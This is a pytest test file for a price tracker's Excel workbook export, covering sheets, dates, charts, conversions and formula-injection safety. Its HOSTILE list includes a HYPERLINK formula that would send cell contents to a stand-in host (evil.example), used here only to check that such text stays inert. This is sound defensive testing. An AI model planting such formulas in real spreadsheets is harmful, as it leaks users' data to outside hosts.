"""The Excel workbook: sheets, real dates and numbers, the prices table, native charts, formula safety.

Read back with openpyxl, and with LibreOffice where it is installed (a real spreadsheet program).
"""
from __future__ import annotations

import csv
import shutil
import subprocess
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner

from tracker.cli import main
from tracker.documents import Document, text_hash
from tracker.observation import CONVERSION_COLUMNS, EXPORT_COLUMNS, LATEST_COLUMNS, PERIOD_COLUMNS, Observation
from tracker.store import Store
from tracker.xlsx import sheet_names

openpyxl = pytest.importorskip("openpyxl")  # a test dependency: reads the workbook back

ROOT = Path(__file__).resolve().parents[1]
SERIES = ROOT / "fixtures" / "series"
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(1,2)", "=1+1"]


def run(*args: str):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


@pytest.fixture(scope="module")
def store_path(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The fixture reviews, plus a review whose title and sentences start like formulas."""
    path = str(tmp_path_factory.mktemp("xlsx") / "tracker.db")
    assert run("ingest", str(SERIES), "--store", path).exit_code == 0
    with Store(path) as store:
        for number, hostile in enumerate(HOSTILE):
            day = date(2025, 11, 3 + number)
            text = f"{hostile} refined cobalt {number}"
            obs = Observation(date=day, commodity="refined_cobalt", grade=None, price_type="offer",
                              low=400000.0 + number, high=410000.0, currency="CNY", unit="mt", text=hostile,
                              sentence=hostile, publisher="SMM")
            store.save(Document(path=f"{hostile}.txt", text=text, title=hostile, date=day,
                                content_hash=text_hash(text)), [obs], "test")
        store.resolve_series()
    return path


@pytest.fixture(scope="module")
def workbook_path(store_path: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("out") / "prices.xlsx"
    result = run("export", "--store", store_path, "-o", str(path))  # the format from the extension
    assert result.exit_code == 0, result.output
    assert f"written to {path}" in result.stderr
    return path


def test_sheets_latest_prices_one_per_commodity(workbook_path: Path, store_path: str) -> None:
    book = openpyxl.load_workbook(workbook_path)
    with Store(store_path) as store:
        commodities = store.commodities()
        series = store.series_ids()
        rows = len(store.observations())
    assert book.sheetnames == ["latest", "prices", *commodities, "about"]
    latest = book["latest"]
    assert [cell.value for cell in latest[1]] == list(LATEST_COLUMNS)
    assert [row[0].value for row in latest.iter_rows(min_row=2)] == series  # one row per series
    prices = book["prices"]
    assert [cell.value for cell in prices[1]] == list(EXPORT_COLUMNS)
    assert prices.max_row == rows + 1


def test_prices_is_a_table_with_filters_a_frozen_header_real_dates_and_numbers(workbook_path: Path) -> None:
    sheet = openpyxl.load_workbook(workbook_path)["prices"]
    (table,) = sheet.tables.values()
    assert table.name == "prices" and table.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}" \
        f"{sheet.max_row}"
    assert table.autoFilter is not None and table.autoFilter.ref == table.ref
    assert sheet.freeze_panes == "A2"
    header = [cell.value for cell in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        cells = dict(zip(header, row, strict=True))
        assert isinstance(cells["date"].value, datetime) and cells["date"].number_format == "yyyy-mm-dd"
        for name in ("low", "high", "mid"):
            assert isinstance(cells[name].value, (int, float)) and cells[name].data_type == "n"
            assert cells[name].number_format == "#,##0.00"  # thousands separators
        assert cells["sources"].data_type == "s" and cells["series"].data_type == "s"


def test_latest_sheet_types(workbook_path: Path) -> None:
    sheet = openpyxl.load_workbook(workbook_path)["latest"]
    header = [cell.value for cell in sheet[1]]
    assert sheet.freeze_panes == "A2" and "latest" in sheet.tables
    cells = dict(zip(header, sheet[2], strict=True))
    assert isinstance(cells["date"].value, datetime) and isinstance(cells["previous_date"].value, datetime)
    assert cells["pct_change"].number_format == "0.00%"  # an Excel percentage: the fraction, shown in %
    change = cells["change"].value / cells["previous_mid"].value
    assert cells["pct_change"].value == pytest.approx(change)
    assert cells["points"].data_type == "n" and cells["points"].value >= 1


def test_commodity_sheets_have_a_native_chart_per_unit(workbook_path: Path, store_path: str) -> None:
    book = openpyxl.load_workbook(workbook_path)
    with Store(store_path) as store:
        units = {row["series"]: (row["currency"], row["unit"]) for row in store.series()}
        commodities = store.commodities()
    for commodity in commodities:
        sheet = book[commodity]
        header = [cell.value for cell in sheet[1]]
        assert header[0] == "date" and set(header[1:]) == {s for s in units if f".{commodity}." in s}
        assert all(isinstance(row[0].value, datetime) for row in sheet.iter_rows(min_row=2))
        charts = sheet._charts
        assert len(charts) == len({units[s] for s in header[1:]}), commodity
        for chart in charts:
            assert type(chart).__name__ == "LineChart"
            columns = [_column(series.val.numRef.f) for series in chart.series]
            assert all(series.cat.numRef.f.startswith(f"{commodity}!$A$2") for series in chart.series)
            # never two units on one axis
            assert len({units[header[column]] for column in columns}) == 1
    assert len(book["lithium_carbonate"]._charts) == 2  # CNY/mt and USD/kg


def _column(reference: str) -> int:
    """"cobalt_sulphate!$C$2:$C$10" -> 2 (the 0-based index into the header row)."""
    letters = reference.split("!")[1].split("$")[1]
    return openpyxl.utils.column_index_from_string(letters) - 1


def test_text_that_looks_like_a_formula_stays_text(workbook_path: Path) -> None:
    sheet = openpyxl.load_workbook(workbook_path)["prices"]
    header = [cell.value for cell in sheet[1]]
    found = set()
    for row in sheet.iter_rows(min_row=2):
        cells = dict(zip(header, row, strict=True))
        if cells["sentence"].value in HOSTILE:
            for name in ("title", "text", "sentence", "document"):
                assert cells[name].data_type == "s", (name, cells[name].value)
            assert cells["title"].value == cells["sentence"].value  # as written: no quote added, nothing cut
            found.add(cells["sentence"].value)
    assert found == set(HOSTILE)
    with zipfile.ZipFile(workbook_path) as archive:  # no formula anywhere in the file
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def test_filters_and_periods_apply_to_the_workbook(store_path: str, tmp_path: Path) -> None:
    path = tmp_path / "cobalt.xlsx"
    result = run("export", "--store", store_path, "--format", "xlsx", "-o", str(path), "--commodity",
                 "cobalt sulfate", "--since", "2025-11-20", "--until", "2025-12-31", "--freq", "M")
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["latest", "prices", "cobalt_sulphate", "about"]
    sheet = book["prices"]
    header = [cell.value for cell in sheet[1]]
    assert header == list(PERIOD_COLUMNS)
    rows = [dict(zip(header, (cell.value for cell in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
    assert {row["period"] for row in rows} == {"2025-11", "2025-12"}
    assert all(row["first_date"] >= datetime(2025, 11, 20) for row in rows)
    assert {row["date"] for row in rows} == {datetime(2025, 11, 30), datetime(2025, 12, 31)}
    about = dict(row for row in book["about"].iter_rows(values_only=True))
    assert "--commodity cobalt sulfate" in about["selection"] and about["prices"].endswith("monthly averages")
    one = tmp_path / "one.xlsx"
    series = "smm.refined_cobalt.assessment.cny-mt"
    assert run("export", "--store", store_path, "-o", str(one), "--series", series).exit_code == 0
    only = openpyxl.load_workbook(one)
    assert [row[0] for row in only["latest"].iter_rows(min_row=2, values_only=True)] == [series]


def test_converted_workbook_carries_the_conversion(store_path: str, tmp_path: Path) -> None:
    rates = tmp_path / "rates.csv"
    rates.write_text("date,pair,rate\n2025-10-01,USD/CNY,7.1\n", encoding="utf-8")
    db = tmp_path / "copy.db"
    shutil.copy(store_path, db)
    assert run("fx", "import", str(rates), "--store", str(db)).exit_code == 0
    path = tmp_path / "usd.xlsx"
    result = run("export", "--store", str(db), "-o", str(path), "--commodity", "refined_cobalt", "--to", "USD/lb",
                 "--ex-vat", "13")
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(path)
    sheet = book["prices"]
    header = [cell.value for cell in sheet[1]]
    assert header == [*EXPORT_COLUMNS, *CONVERSION_COLUMNS]
    row = dict(zip(header, sheet[2], strict=True))
    assert row["currency"].value == "USD" and row["unit"].value == "lb" and row["fx_pair"].value == "USD/CNY"
    assert row["fx_date"].value == datetime(2025, 10, 1) and row["ex_vat"].value == pytest.approx(0.13)
    assert row["series"].value == row["converted_from"].value + ">usd-lb-ex-vat"
    assert "converted_from" in [cell.value for cell in book["latest"][1]]
    assert len(book["refined_cobalt"]._charts) == 1  # one unit after conversion: one chart


def test_an_empty_selection_is_still_a_workbook(store_path: str, tmp_path: Path) -> None:
    path = tmp_path / "empty.xlsx"
    assert run("export", "--store", store_path, "-o", str(path), "--since", "2030-01-01").exit_code == 0
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["latest", "prices", "about"]
    assert [cell.value for cell in book["prices"][1]] == list(EXPORT_COLUMNS)


def test_xlsx_usage_errors(store_path: str, tmp_path: Path) -> None:
    for args, message in ((["--format", "xlsx"], "give --output FILE.xlsx"),
                          (["-o", str(tmp_path / "w.xlsx"), "--wide"], "--wide is for csv and json"),
                          (["--format", "xlsx", "-o", str(tmp_path / "w.csv")], "not .csv"),
                          (["--format", "csv", "-o", str(tmp_path / "w.xlsx")], "pass --format xlsx")):
        result = CliRunner().invoke(main, ["export", "--store", store_path, *args])
        assert result.exit_code == 2 and message in result.output, (args, result.output)
    assert not list(tmp_path.iterdir())


def test_sheet_names_are_valid_and_unique() -> None:
    assert sheet_names(["cobalt_sulphate", "a/b:c", "x" * 40, "x" * 40 + "y", "Prices"]) == {
        "cobalt_sulphate": "cobalt_sulphate", "a/b:c": "a_b_c", "x" * 40: "x" * 31,
        "x" * 40 + "y": "x" * 29 + "_2", "Prices": "Prices_2"}


def test_libreoffice_reads_the_workbook(workbook_path: Path, tmp_path: Path) -> None:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed: the workbook was checked with openpyxl only; "
                    "apt-get install libreoffice-calc-nogui to run this test")
    # every sheet to its own CSV, cells as shown (filter options 9 and 12); a private profile: no running office bothers
    result = subprocess.run(
        [soffice, f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1",
         "--outdir", str(tmp_path), str(workbook_path)], capture_output=True, text=True, timeout=180)
    assert result.returncode == 0, result.stderr
    prices = tmp_path / "prices-prices.csv"
    assert prices.exists(), sorted(p.name for p in tmp_path.iterdir())
    with open(prices, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    sentences = {row["sentence"] for row in rows}
    assert set(HOSTILE) <= sentences  # text, not formulas LibreOffice evaluated
    assert all(row["date"][:2] == "20" and row["date"][4] == "-" for row in rows)  # dates shown as dates
    assert any("," in row["mid"] for row in rows)  # as formatted: thousands separators
    sulphate = tmp_path / "prices-cobalt_sulphate.csv"
    assert sulphate.read_text(encoding="utf-8").startswith("date,")


def test_only_xlsx_is_inferred_from_the_extension(store_path: str, tmp_path: Path) -> None:
    json_file = CliRunner().invoke(main, ["export", "--store", store_path, "-o", str(tmp_path / "p.json")])
    assert json_file.exit_code == 2 and "pass --format json" in json_file.stderr  # as before the workbook
    workbook = run("export", "--store", store_path, "-o", str(tmp_path / "P.XLSX"), "--commodity", "spodumene")
    assert workbook.exit_code == 0 and zipfile.is_zipfile(tmp_path / "P.XLSX")
